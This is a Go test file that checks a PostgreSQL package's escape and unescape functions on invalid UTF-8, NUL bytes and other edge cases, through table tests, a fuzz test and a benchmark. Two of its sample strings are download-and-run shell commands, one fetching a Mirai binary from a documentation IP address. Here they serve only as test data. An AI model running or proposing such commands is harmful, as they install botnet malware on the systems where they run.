package postgres

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ text, stored string }{
		{"", ""},
		{"wget http://192.0.2.1/a; sh a", "wget http://192.0.2.1/a; sh a"},
		{"käse 日本 \U0001F600 \U0010FEFF \uFFFD", "käse 日本 \U0001F600 \U0010FEFF \uFFFD"},
		{"a\x00b", "a\U0010FF00b"},
		{"\xff\xfe", "\U0010FFFF\U0010FFFE"},
		{"\xed\xa0\x80", "\U0010FFED\U0010FFA0\U0010FF80"}, // \ud800
		{"cut \xe6\x97", "cut \U0010FFE6\U0010FF97"},
		{"\U0010FF00", "\U0010FFF4\U0010FF8F\U0010FFBC\U0010FF80"},
		{"\U0010FFFF!", "\U0010FFF4\U0010FF8F\U0010FFBF\U0010FFBF!"},
		{"\xf4\x90\x80\x80", "\U0010FFF4\U0010FF90\U0010FF80\U0010FF80"}, // above the last character
	} {
		if got := escape(c.text); got != c.stored {
			t.Errorf("%q is stored as %q, want %q", c.text, got, c.stored)
		}
		if got := unescape(c.stored); got != c.text {
			t.Errorf("%q is read as %q, want %q", c.stored, got, c.text)
		}
	}
}

// FuzzEscape: every text has a form of its own that PostgreSQL can hold.
func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "a", "\x00", "\xff", "\xed\xbf\xbf", "\U0010FF00\U0010FFFF", "\xf4\x8f\xbc", "é\x80é", "\xc0\x80"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		stored := escape(s)
		if !utf8.ValidString(stored) || strings.ContainsRune(stored, 0) {
			t.Errorf("PostgreSQL cannot hold %q", stored)
		}
		if got := unescape(stored); got != s {
			t.Errorf("%q became %q", s, got)
		}
		if again := escape(stored); again == stored && stored != s {
			t.Errorf("%q and %q are both stored as %q", s, stored, stored)
		}
		for _, r := range s {
			if utf8.ValidString(s) && (r == 0 || r >= escaped) {
				return
			}
		}
		if utf8.ValidString(s) && stored != s {
			t.Errorf("%q is changed for nothing", s)
		}
	})
}

func BenchmarkEscape(b *testing.B) {
	text := strings.Repeat("cd /tmp && wget http://192.0.2.1/mirai.arm7; ", 5)
	for name, s := range map[string]string{"ASCII": text, "UTF-8": strings.Repeat("日本語 ", 20), "bytes": string(bytes.Repeat([]byte{0xff, 'a'}, 100))} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			for b.Loop() {
				unescape(escape(s))
			}
		})
	}
}
